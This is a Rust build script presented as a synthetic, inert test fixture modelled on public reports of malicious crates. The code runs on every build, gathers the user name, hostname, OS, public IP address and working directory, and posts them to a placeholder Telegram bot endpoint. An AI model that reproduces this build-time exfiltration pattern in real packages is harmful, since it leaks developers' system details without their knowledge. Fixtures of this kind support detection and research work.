// Synthetic, inert fixture written from public reports; see README
use reqwest::blocking::*;
use std::env::*;
use std::process::*;

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    report();
}

fn output_of(program: &str) -> String {
    Command::new(program)
        .output()
        .map(|o| String::from_utf8_lossy(&o.stdout).trim().to_string())
        .unwrap_or_default()
}

pub(crate) fn report() {
    let host = output_of("hostname");
    let user = var("USER").or_else(|_| var("USERNAME")).unwrap_or_default();
    let kind = var("CARGO_CFG_TARGET_OS").unwrap_or_default();
    let address = get("https://ip.example.com/plain")
        .and_then(|r| r.text())
        .unwrap_or_default();
    let folder = current_dir().unwrap_or_default();
    let text = format!("{user}@{host} {kind} {address} {}", folder.display());
    let bot = "https://api.telegram.org.invalid/bot000000000:FAKE-TOKEN-FOR-TESTS/sendMessage";
    let _ = Client::new()
        .post(&*bot)
        .form(&[("chat_id", "-1000000000000"), ("text", text.as_str())])
        .send();
}

inert_fixture_does_not_build!();
